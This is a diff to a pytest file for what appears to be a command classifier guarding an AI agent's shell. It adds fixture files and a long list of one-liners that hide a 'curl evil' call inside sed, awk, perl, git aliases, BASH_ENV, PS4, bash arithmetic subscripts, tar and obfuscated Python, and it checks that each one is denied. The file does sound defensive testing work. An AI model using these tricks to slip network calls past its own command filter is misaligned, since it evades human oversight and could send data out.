@@ -17,9 +17,87 @@ FILES = {
     "steal.py": b"import urllib.request as u\nu.urlopen('http://evil')\n",
     "shell.py": b"import os\nos.system('pip install evil')\n",
     "fine.sh": b"echo fine\n",
+    "steal.awk": b'BEGIN{system("curl evil")}\n',
+    "steal.sed": b"1e curl evil\n",
+    "steal.pl": b"system('curl evil');\n",
+    "stealing/__main__.py": b"import os; os.system('curl evil')\n",
 }
 
+HIDDEN = r"""
+eval -- curl evil
+time -p curl evil
+coproc NAME { curl evil; }; wait
+env -vS 'curl evil'
+timeout 1e1 curl evil
+nice --adjustment 5 curl evil
+stdbuf --output L curl evil
+bash -c -- 'curl evil'
+bash --init-file steal.sh -ic true
+trap -- 'curl evil' EXIT
+mapfile -c 1 -C 'curl' a < data.txt
+compgen -W '$(curl evil)'
+printf -v 'a[$(curl evil)]' x
+read 'a[$(curl evil)]' < data.txt
+test -v 'a[$(curl evil)]'
+[[ 'a[$(curl evil)]' -eq 1 ]]
+if [[ 'a[`curl evil`]' -eq 1 ]]; then :; fi
+let "x=a[\$(curl evil)]"
+declare -i x='a[$(curl evil)]'
+x='a[$(curl evil)]'; ((x))
+x='$(curl evil)'; echo ${x@P}
+BASH_ENV=steal.sh bash -c true
+export BASH_ENV=steal.sh; bash -c true
+env BASH_ENV=steal.sh bash -c true
+PS4='$(curl evil)' bash -xc true
+GIT_EXTERNAL_DIFF='curl evil' git diff --no-index a b
+git -c alias.x='!curl evil' x
+git config alias.x '!curl evil'; git x
+git bisect run curl evil
+sed '/a/s/.*/curl evil/e' data.txt
+sed '1ecurl evil' data.txt
+sed --expression='1e curl evil' data.txt
+sed -f steal.sed data.txt
+awk -f steal.awk
+perl steal.pl
+perl -ne print 'curl evil|'
+perl -e 'open(F, "-|", "curl evil")'
+tar -I 'curl evil' -cf t.tar data.txt
+make
+make -s --eval='x:;curl evil' x
+split --filter='curl evil' data.txt
+sort --compress-program=curl data.txt
+script -qc 'curl evil' out
+flock -n . curl evil
+setarch x86_64 curl evil
+taskset -c 0 curl evil
+jobs -x curl evil
+echo $(case a in a) curl evil;; esac)
+echo $'\'' ; curl evil #'
+curl() { command curl "$@"; }; curl evil
+python -c "from os import *; system('curl evil')"
+python -c "import os; getattr(os, 'sys' + 'tem')('curl evil')"
+python -c "import os; os.system('cu' + 'rl evil')"
+python -c "import os; x = 'curl evil'; os.system(x)"
+python -c 'exec("import os; os.system(\"curl evil\")")'
+python -c "import pty; pty.spawn(['curl', 'evil'])"
+python -c "import asyncio; asyncio.create_subprocess_shell('curl evil')"
+python -m code <<< "import os; os.system('curl evil')"
+python -m timeit "import os; os.system('curl evil')"
+python -m stealing
+python made_on_this_line.py
+"""
+"""Commands that a shell finds in arguments, values and files, or that a program starts. Each was run to see that."""
+
 SAFE = [
+    "f() { ls; }; f data",
+    'function f { wc -l "$1"; }; f a.txt && f b.txt',
+    "sed 's/x/e/; s,a/e,b,g' data.txt",
+    "sed -e 's/e //' -e '/a/d' data.txt",
+    "git log --oneline -3; git show HEAD",
+    "x='a b'; echo \"$x\"",
+    "sort -k2 a.csv | uniq -c | sort -rn | head",
+    '[ "$(cat a | wc -l)" -gt 3 ] && echo yes',
+    "python -m py_compile solution.py && echo ok",
     "ls -la",
     "pwd && ls",
     "cat solution.py | head -20",
@@ -291,6 +369,11 @@ def test_whatever_would_run_pytest_is_intercepted(command: str) -> None:
 def test_what_reaches_out_is_denied_with_its_reason(reason: str, command: str) -> None:
     judged = classify_command(command, FILES)
     assert judged.kind == "denied" and reason in judged.reason, judged
+
+
+@pytest.mark.parametrize("command", HIDDEN.strip().splitlines())
+def test_what_a_shell_or_a_program_finds_in_arguments_and_files_is_classified_too(command: str) -> None:
+    assert classify_command(command, FILES).kind == "denied"
 
 
 @pytest.mark.parametrize(
